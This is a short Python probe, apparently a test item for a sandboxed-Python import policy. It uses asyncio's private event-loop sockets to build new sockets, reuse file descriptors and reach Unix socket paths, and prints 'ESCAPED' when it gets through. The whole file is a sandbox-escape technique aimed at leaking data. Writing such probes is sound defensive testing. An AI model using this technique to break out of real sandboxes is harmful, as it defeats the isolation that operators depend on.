# technique: the loop's own pair of sockets leads to the class of sockets, which makes others, and sends to where it is told
# goal: leak
# policy: imports asyncio = *
# source: own analysis: what comes with a grant
import asyncio

loop = asyncio.new_event_loop()
kind = type(loop._ssock)
made = []
for arguments in (2, 1), (1, 1), (1, 2), (1, 1, 0, loop._csock.fileno()):
    for make in kind, lambda *a: kind.__mro__[1](*a), lambda *a: loop._ssock.dup():
        try:
            made.append(make(*arguments))
        except Exception:
            pass
for act in (lambda: loop._csock.connect('/run/x'), lambda: loop._csock.bind('/tmp/x'),
            lambda: loop._csock.sendto(b'x', '/run/x')):
    try:
        made.append(act())
    except Exception as error:
        if getattr(error, 'errno', 0) in (2, 22, 98, 106, 111):  # the kernel was asked
            made.append(error)
if made:
    print('ESCAPED', made[0], flush=True)
for s in made:
    if isinstance(s, kind):
        s.detach()
